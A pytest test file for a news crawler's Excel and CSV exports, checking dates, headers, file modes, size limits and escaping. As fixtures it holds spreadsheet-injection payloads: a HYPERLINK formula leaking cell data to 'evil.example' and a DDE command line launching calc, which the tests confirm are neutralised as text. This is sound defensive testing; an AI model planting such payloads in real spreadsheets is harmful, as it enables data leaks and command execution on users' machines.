"""Exports for spreadsheets: ``--format xlsx`` (an Excel workbook, read back here with
zipfile and the XML it holds, no spreadsheet library needed) and ``--format csv-excel``
(BOM, ``;``, CRLF, German dates), in the CLI and as web UI downloads."""

from __future__ import annotations

import csv
import html
import io
import os
import re
import stat
import tempfile
import zipfile
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path
from xml.etree import ElementTree

import pytest
from click.testing import CliRunner
from sqlalchemy import Engine

from kn_crawl.cli import main
from kn_crawl.dates import BERLIN
from kn_crawl.db.engine import make_engine
from kn_crawl.db.migrate import upgrade
from kn_crawl.db.store import ArticleStore, ensure_source
from kn_crawl.search.export import ExportError
from kn_crawl.search.export_sheets import EXCEL_MAX_TEXT, excel_text, german_cell, write_xlsx
from kn_crawl.web import create_app, exports
from tests.test_search import article, fill

NS = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
EVIL_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"Mehr")'
LONG_BODY = "Verwaltung " * 4000  # 44,000 characters: more than an Excel cell holds

COLUMNS = (
    "id source published_at url kicker title teaser section type_label tags body tag_origins "
    "story_id"
)


class Sheet:
    """The cells of an xlsx's first sheet: ``value(ref)`` and whether a cell's style has
    Excel's quote prefix (text that stays text)."""

    def __init__(self, data: bytes) -> None:
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            self.xml = ElementTree.fromstring(archive.read("xl/worksheets/sheet1.xml"))
            styles = ElementTree.fromstring(archive.read("xl/styles.xml"))
            self.workbook = archive.read("xl/workbook.xml").decode()
        xfs = styles.find("m:cellXfs", NS)
        assert xfs is not None
        self.quoted = [xf.get("quotePrefix") == "1" for xf in xfs.findall("m:xf", NS)]
        self.formats = {
            f.get("numFmtId"): f.get("formatCode") for f in styles.iterfind(".//m:numFmt", NS)
        }
        self.styles = [xf.get("numFmtId") for xf in xfs.findall("m:xf", NS)]
        self.cells = {c.get("r"): c for c in self.xml.iterfind(".//m:c", NS)}

    def value(self, ref: str) -> str | float | None:
        cell = self.cells.get(ref)
        if cell is None:
            return None
        assert cell.find("m:f", NS) is None, f"{ref} is a formula"
        if cell.get("t") == "inlineStr":
            return "".join(t.text or "" for t in cell.iterfind(".//m:t", NS))
        v = cell.find("m:v", NS)
        assert v is not None and v.text is not None
        return float(v.text)

    def is_quoted(self, ref: str) -> bool:
        return self.quoted[int(self.cells[ref].get("s", "0"))]

    def number_format(self, ref: str) -> str | None:
        return self.formats.get(self.styles[int(self.cells[ref].get("s", "0"))])

    def row(self, n: int) -> list[str | float | None]:
        return [self.value(f"{chr(65 + i)}{n}") for i in range(13)]


@pytest.fixture(scope="module")
def sheet_db(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    url = f"sqlite:///{tmp_path_factory.mktemp('sheets') / 'kn.sqlite3'}"
    engine = make_engine(url)
    upgrade(engine)
    fill(engine)
    with engine.begin() as conn:
        sid = ensure_source(conn, name="move", family="k21", title="move", base_url="https://x/")
    evil = article(
        "formel",
        EVIL_TITLE,
        source="move",
        kicker="@SUM(1+1)",
        teaser="-1+1",
        body=LONG_BODY,
        tags=["=cmd|' /C calc'!A0", "OZG"],
        published_at=datetime(2025, 1, 15, 23, 30, tzinfo=UTC),  # 16.01. 00:30 in Berlin
    )
    ArticleStore(engine).save(sid, "move", [evil], now=datetime(2025, 6, 1, tzinfo=UTC))
    engine.dispose()
    yield url


def cli(db: str, *args: str) -> str:
    result = CliRunner().invoke(main, list(args), env={"KN_DATABASE_URL": db})
    assert result.exit_code == 0, result.output
    return result.stdout


def test_cli_xlsx_has_exact_cells_dates_frozen_header_and_filter(
    sheet_db: str, tmp_path: Path
) -> None:
    out = tmp_path / "x.xlsx"
    result = CliRunner().invoke(
        main,
        ["export", "tag:OZG", "--format", "xlsx", "--output", str(out)],
        env={"KN_DATABASE_URL": sheet_db},
    )
    assert result.exit_code == 0, result.output
    assert result.stderr == f"3 articles written to {out}\n"
    sheet = Sheet(out.read_bytes())
    assert sheet.row(1) == COLUMNS.split()
    # newest first: Kassel (2 April), the injected title (16 January), Serviceportal (2024)
    assert sheet.row(2)[1:] == [
        "kommune21",
        45749.0,  # 2 April 2025, 00:00 Berlin, as an Excel date
        "https://kommune21.example/buergeramt/",
        None,
        "Buergeramt Kassel digitalisiert Anträge",
        "Hessen setzt das Onlinezugangsgesetz (OZG) um.",
        "E-Government",
        None,
        "OZG; Hessen",
        None,
        "site; site",
        2.0,  # story_id: the Kassel article's own story (the second article stored)
    ]
    assert sheet.number_format("C2") == "dd.mm.yyyy hh:mm"
    assert sheet.value("C3") == 45673.02083333334  # 16.01.2025 00:30 Berlin: 45673 + 30/1440
    # Formula-like text: a string cell (never a formula) with the exact text, quote-prefixed.
    assert sheet.value("F3") == EVIL_TITLE and sheet.is_quoted("F3")
    assert sheet.value("E3") == "@SUM(1+1)" and sheet.is_quoted("E3")
    assert sheet.value("G3") == "-1+1" and sheet.is_quoted("G3")
    assert sheet.value("J3") == "=cmd|' /C calc'!A0; OZG" and sheet.is_quoted("J3")
    assert not sheet.is_quoted("F2")
    body = sheet.value("K3")
    assert isinstance(body, str) and len(body) == EXCEL_MAX_TEXT and body.endswith("…")
    assert sheet.value("F4") == "Serviceportal für alle Kommunen" and sheet.value("A5") is None
    pane = sheet.xml.find(".//m:pane", NS)
    assert pane is not None and (pane.get("ySplit"), pane.get("state")) == ("1", "frozen")
    autofilter = sheet.xml.find("m:autoFilter", NS)
    assert autofilter is not None and autofilter.get("ref") == "A1:M4"
    widths = [c.get("width") for c in sheet.xml.iterfind(".//m:col", NS)]
    assert widths[5] == "60.7109375"  # title: 60 characters
    assert 'name="Artikel"' in sheet.workbook
    assert [p.name for p in tmp_path.iterdir()] == ["x.xlsx"]  # no temporary files left


def test_cli_csv_excel_is_bom_semicolon_crlf_german_dates(sheet_db: str, tmp_path: Path) -> None:
    out = tmp_path / "x.csv"
    cli(sheet_db, "export", "tag:OZG", "--format", "csv-excel", "--output", str(out), "--no-body")
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbfid;source;published_at;url;")
    assert raw.count(b"\r\n") == 4 and raw.replace(b"\r\n", b"").count(b"\n") == 0
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert rows[0] == [c for c in COLUMNS.split() if c != "body"]
    assert rows[1][2] == "02.04.2025 00:00"
    assert rows[2][2] == "16.01.2025 00:30"
    assert rows[2][5] == "'" + EVIL_TITLE and rows[2][9] == "'=cmd|' /C calc'!A0; OZG"
    assert rows[3][5] == "Serviceportal für alle Kommunen"
    # The same to standard output.
    result = CliRunner().invoke(
        main,
        ["export", "tag:OZG", "--format", "csv-excel", "-o", "-", "--no-body"],
        env={"KN_DATABASE_URL": sheet_db},
    )
    assert result.exit_code == 0 and result.stdout_bytes == raw  # .stdout would drop the CRs


def test_xlsx_needs_a_file_and_a_failed_export_keeps_the_old_file(
    sheet_db: str, tmp_path: Path
) -> None:
    result = CliRunner().invoke(
        main, ["export", "--format", "xlsx", "-o", "-"], env={"KN_DATABASE_URL": sheet_db}
    )
    assert result.exit_code == 2 and "xlsx needs a file" in result.output
    old = tmp_path / "old.xlsx"
    old.write_bytes(b"earlier export")

    def failing() -> Iterator[dict[str, object]]:
        yield {c: None for c in COLUMNS.split()}
        raise RuntimeError("database gone")

    with pytest.raises(RuntimeError):
        write_xlsx(failing(), str(old), tuple(COLUMNS.split()))
    assert old.read_bytes() == b"earlier export"
    assert [p.name for p in tmp_path.iterdir()] == ["old.xlsx"]


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (datetime(2025, 7, 1, 10, 5, tzinfo=UTC), "01.07.2025 12:05"),
        (datetime(2025, 12, 31, 23, 0, tzinfo=UTC), "01.01.2026 00:00"),
        (["=A1", "OZG"], "'=A1; OZG"),
        ("+49 231", "'+49 231"),
        ("Bürgerbüro", "Bürgerbüro"),
        (7, 7),
        (None, None),
    ],
)
def test_german_cell(value: object, cell: object) -> None:
    assert german_cell(value) == cell


def test_excel_text_cuts_at_the_cell_limit() -> None:
    assert excel_text("x" * EXCEL_MAX_TEXT) == "x" * EXCEL_MAX_TEXT
    assert excel_text("x" * (EXCEL_MAX_TEXT + 1)) == "x" * (EXCEL_MAX_TEXT - 1) + "…"


def test_web_downloads(engine: Engine, db_url: str) -> None:
    fill(engine)
    app = create_app(db_url)
    client = app.test_client()
    try:
        response = client.get("/export.xlsx?q=tag:OZG")
        assert response.status_code == 200
        assert response.mimetype == (
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
        )
        disposition = response.headers["Content-Disposition"]
        assert re.fullmatch(r"attachment; filename=kn-crawl-\d{8}-\d{6}\.xlsx", disposition)
        sheet = Sheet(response.get_data())
        assert [sheet.value("F2"), sheet.value("F3"), sheet.value("F4")] == [
            "Buergeramt Kassel digitalisiert Anträge",
            "Serviceportal für alle Kommunen",
            None,
        ]
        assert sheet.value("C3") == 45601.0  # 5 November 2024
        response = client.get("/export-excel.csv?q=tag:OZG")
        assert response.status_code == 200 and response.is_streamed
        assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
        assert "attachment" in response.headers["Content-Disposition"]
        body = response.get_data()
        assert body.startswith(b"\xef\xbb\xbfid;source;published_at;")
        rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline=""), delimiter=";"))
        assert [(r[2], r[5]) for r in rows[1:]] == [
            ("02.04.2025 00:00", "Buergeramt Kassel digitalisiert Anträge"),
            ("05.11.2024 00:00", "Serviceportal für alle Kommunen"),
        ]
        assert client.get("/export.xlsx?q=%22").status_code == 400
        assert client.get("/export-excel.csv?q=%22").status_code == 400
        page = client.get("/?q=tag:OZG").get_data(as_text=True)
        assert "/export.xlsx?q=tag:OZG" in page and "/export-excel.csv?q=tag:OZG" in page
    finally:
        app.config["KN_ENGINE"].dispose()


def test_web_xlsx_refuses_too_many_articles_before_writing_anything(
    engine: Engine, db_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The articles are counted first: above the web's limit the answer is a German 400 at
    once, without a temporary file (here any would fail: the temp folder does not exist)."""
    fill(engine)  # tag:OZG matches 2 articles
    monkeypatch.setattr(exports, "WEB_XLSX_MAX_ROWS", 1)
    temp = tmp_path / "temp"
    monkeypatch.setattr(tempfile, "tempdir", str(temp))
    app = create_app(db_url)
    client = app.test_client()
    try:
        response = client.get("/export.xlsx?q=tag:OZG")
        assert response.status_code == 400
        page = response.get_data(as_text=True)
        assert (
            "Export nicht möglich: eine Excel-Datei aus der Weboberfläche fasst höchstens "
            "1 Artikel – bitte die Suche eingrenzen, CSV wählen oder auf dem Server "
            "„kn-crawl export --format xlsx“ verwenden"
        ) in html.unescape(page)
        assert not temp.exists()
        monkeypatch.setattr(exports, "WEB_XLSX_MAX_ROWS", 2)  # exactly the limit: served
        temp.mkdir()
        response = client.get("/export.xlsx?q=tag:OZG")
        assert response.status_code == 200
        sheet = Sheet(response.get_data())
        assert [sheet.value("F2"), sheet.value("F3"), sheet.value("F4")] == [
            "Buergeramt Kassel digitalisiert Anträge",
            "Serviceportal für alle Kommunen",
            None,
        ]
        assert list(temp.iterdir()) == []
    finally:
        app.config["KN_ENGINE"].dispose()


@pytest.mark.parametrize("fmt", ["xlsx", "csv-excel"])
def test_sheet_files_get_the_mode_of_a_plain_file(sheet_db: str, tmp_path: Path, fmt: str) -> None:
    """Like csv/jsonl: a new file as the umask allows, an existing one keeps its mode."""
    new, kept = tmp_path / "new.out", tmp_path / "kept.out"
    kept.write_bytes(b"earlier export")
    kept.chmod(0o640)
    old = os.umask(0o022)
    try:
        for out in (new, kept):
            cli(sheet_db, "export", "tag:OZG", "--format", fmt, "--output", str(out))
    finally:
        os.umask(old)
    assert stat.S_IMODE(new.stat().st_mode) == 0o644
    assert stat.S_IMODE(kept.stat().st_mode) == 0o640
    assert kept.read_bytes() != b"earlier export"


def test_berlin_is_the_date_zone() -> None:
    assert german_cell(datetime(2025, 3, 10, tzinfo=BERLIN)) == "10.03.2025 00:00"


def test_control_characters_stay_valid_xml(tmp_path: Path) -> None:
    """XML cannot hold most control characters: they are written as Excel's ``_xHHHH_``
    escapes (and a literal ``_x0041_`` escaped in turn), so Excel shows the text as it was."""
    out = tmp_path / "c.xlsx"
    write_xlsx(iter([{"id": 1, "title": "a\x01b\x0bc_x0041_ "}]), str(out), ("id", "title"))
    sheet = Sheet(out.read_bytes())
    assert sheet.value("B2") == "a_x0001_b_x000B_c_x005F_x0041_ "


def test_more_rows_than_a_sheet_holds_is_an_error_that_leaves_nothing(tmp_path: Path) -> None:
    out = tmp_path / "x.xlsx"
    rows = ({"id": i, "title": f"T{i}"} for i in range(5))
    with pytest.raises(ExportError, match=r"^an Excel sheet holds at most 3 articles: narrow"):
        write_xlsx(rows, str(out), ("id", "title"), max_rows=4)
    assert list(tmp_path.iterdir()) == []
    assert (
        write_xlsx(iter([{"id": 1, "title": "a"}] * 3), str(out), ("id", "title"), max_rows=4) == 3
    )
